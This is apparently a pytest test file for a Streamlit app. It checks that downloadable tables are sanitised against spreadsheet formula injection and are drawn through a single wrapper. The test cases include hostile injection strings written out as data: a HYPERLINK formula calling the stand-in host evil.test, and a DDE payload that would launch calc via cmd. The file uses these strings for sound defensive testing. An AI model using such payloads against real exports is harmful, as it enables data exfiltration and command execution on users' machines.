"""Every table the app draws is safe to download from Streamlit's table toolbar: text a
spreadsheet would run as a formula is neutralised first, and no page draws a table any other
way than through `data_table`."""

from __future__ import annotations

import ast

import pandas as pd
import pytest

from tests.app.shell_helpers import ROOT
from tutor.spreadsheet import inert, inert_frame

DRAWING = {"dataframe", "data_editor", "table"}


@pytest.mark.parametrize(("text", "shown"), [
    ('=HYPERLINK("http://evil.test/?x", "click")', '\'=HYPERLINK("http://evil.test/?x", "click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Ada", "Ada"), ("a=1", "a=1"), ("", ""), ("'=1", "'=1"), ("40%", "40%"), ("—", "—"),
])
def test_inert(text, shown):
    assert inert(text) == shown


def test_inert_frame_changes_text_cells_only_and_leaves_the_original():
    frame = pd.DataFrame({"name": ["=1+1", "Bo", None], "n": [-1, 2, 3], "share": [0.5, None, 1.0],
                          "typed": pd.Series(["@x", "y", "z"], dtype="string")})
    shown = inert_frame(frame)
    assert list(shown["name"][:2]) == ["'=1+1", "Bo"] and pd.isna(shown["name"][2])
    assert list(shown["n"]) == [-1, 2, 3]
    assert list(shown["typed"]) == ["'@x", "y", "z"] and shown["share"].isna().tolist() == [False, True, False]
    assert frame.loc[0, "name"] == "=1+1"


def _drawing_calls(path):
    tree = ast.parse(path.read_text(), filename=str(path))
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and (
                node.func.attr in DRAWING):
            yield node.lineno


def test_no_page_draws_a_table_but_through_data_table():
    pages = sorted((ROOT / "app_pages").rglob("*.py"))
    assert len(pages) > 20
    found = [f"{p.relative_to(ROOT)}:{line}" for p in pages if p.name != "tables.py"
             for line in _drawing_calls(p)]
    assert found == []
    assert list(_drawing_calls(ROOT / "app_pages" / "widgets" / "tables.py"))  # the one place
